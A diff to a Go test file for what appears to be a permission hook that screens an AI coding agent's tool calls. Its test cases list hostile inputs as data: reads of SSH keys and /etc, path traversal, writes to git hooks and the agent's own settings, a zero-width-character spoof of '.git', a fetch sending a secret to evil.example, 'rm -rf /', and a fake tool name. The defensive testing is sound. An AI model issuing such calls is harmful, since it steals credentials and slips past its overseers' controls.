@@ -160,7 +160,7 @@ func TestHeldBack(t *testing.T) {
 		{"Read", map[string]any{"file_path": filepath.Join(home, "key")}}, {"Read", map[string]any{"file_path": "link/key"}}, {"Read", map[string]any{"file_path": "../key"}},
 		{"Read", map[string]any{"file_path": "~/.ssh/id_rsa"}}, {"Glob", map[string]any{"pattern": "/etc/*"}}, {"Glob", map[string]any{"pattern": "*/../../*"}}, {"Grep", map[string]any{"pattern": "x", "path": "/etc"}},
 		{"Write", write("link/new")}, {"Write", write("dangling")}, {"Write", write("sub/../../new")}, {"Write", write("link/../new")}, {"Write", write(".git/hooks/pre-commit")}, {"Write", write("sub/.Git/config")},
-		{"Write", write("CLAUDE.md")}, {"Write", write(".claude/settings.json")}, {"Write", write(".github/workflows/ci.yml")}, {"Edit", map[string]any{"file_path": ".envrc", "old_string": "a", "new_string": "b"}},
+		{"Write", write(".g\u200cit/config")}, {"Write", write("file:///etc/x")}, {"Write", write("~root/x")}, {"Write", write("CLAUDE.md")}, {"Write", write(".claude/settings.json")}, {"Write", write(".github/workflows/ci.yml")}, {"Edit", map[string]any{"file_path": ".envrc", "old_string": "a", "new_string": "b"}},
 		{"WebFetch", map[string]any{"url": "https://evil.example/?q=secret", "prompt": "x"}},
 	} {
 		if _, a := c.proposes(call.tool, call.input); a.Verdict != remit.Ask || a.Reason == "" {
@@ -179,6 +179,7 @@ func TestDenied(t *testing.T) {
 		reason string
 	}{
 		"an MCP tool":     {"mcp__mail__send", map[string]any{"to": "a"}, "remit contract synth"},
+		"a false name":    {"mcp__claude-code__Bash", map[string]any{"command": "ls"}, "no contract"},
 		"a new tool":      {"CronCreate", map[string]any{"prompt": "x"}, "remit hook contracts claude-code"},
 		"Remit's own":     {"Bash", map[string]any{"command": "rm -rf /", "remit:reach": "workspace"}, "Remit's own"},
 		"no file":         {"Write", map[string]any{"content": "x"}, "name the file"},
